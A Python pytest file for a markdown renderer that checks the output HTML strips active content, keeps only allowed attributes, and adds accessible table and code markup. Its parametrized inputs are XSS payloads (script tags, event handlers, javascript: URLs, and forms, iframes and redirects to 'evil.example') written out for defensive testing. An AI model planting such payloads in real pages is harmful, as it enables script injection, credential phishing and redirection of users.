"""Markdown becomes HTML that cannot act, reach out or change the screen around it."""

from __future__ import annotations

import re

import pytest

from insula.web.markdown import render


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](javascript:alert(1))",
        "<a href='javascript:alert(1)'>x</a>",
        "<javascript:alert(1)>",
        '<div hx-get="/admin" hx-trigger="load">x</div>',
        '<p style="position:fixed">x</p>',
        '<form action="https://evil.example"><input name="password"></form>',
        '<button formaction="https://evil.example">x</button>',
        '<svg onload="alert(1)"></svg>',
        "<iframe src='https://evil.example'></iframe>",
        '<base href="https://evil.example">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '[x](/a "onmouseover=alert(1)")',
        "[x](<javascript:alert(1)>)",
        "```html\n<script>alert(1)</script>\n```",
        "| a |\n|---|\n| <script>alert(1)</script> |",
    ],
)
def test_nothing_that_acts_comes_through(text):
    html = render(text).lower()
    for tag in ("script", "img src=x", "iframe", "form", "input", "svg", "base", "meta", "button", "style"):
        assert f"<{tag}" not in html
    assert 'href="javascript' not in html
    assert 'href="data' not in html
    assert 'src="javascript' not in html


def test_markup_of_the_writer_is_shown_as_text():
    assert "&lt;b&gt;bold&lt;/b&gt;" in render("<b>bold</b>")


def test_no_attribute_is_kept_but_the_few_allowed():
    html = render('[a](/b "t") ![i](/c.png "u")\n\n3. three')
    assert 'href="/b"' in html
    assert 'title="t"' in html
    assert 'src="/c.png"' in html
    assert '<ol start="3">' in html
    assert " id=" not in html
    assert " class=" not in html


def test_links_tell_the_other_side_nothing():
    assert 'rel="noopener noreferrer"' in render("[out](https://example.com)")


def test_headings_begin_below_the_title_of_the_page_and_skip_no_level():
    html = render("# one\n\n## two\n\n### three\n\n###### six\n\n## again")
    assert re.findall(r"<(h\d)>(\w+)</\1>", html) == [
        ("h2", "one"),
        ("h2", "two"),
        ("h3", "three"),
        ("h4", "six"),
        ("h2", "again"),
    ]


def test_a_table_aligns_by_class_and_scrolls_where_the_keyboard_reaches_it():
    html = render("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |")
    assert '<td class="end">2</td>' in html
    assert '<td class="center">3</td>' in html
    assert "style" not in html
    assert html.startswith('<div class="scroll" role="region" aria-label="Table" tabindex="0"><table>')


def test_code_that_scrolls_is_reached_by_the_keyboard():
    assert '<pre tabindex="0"><code>' in render("    long line")
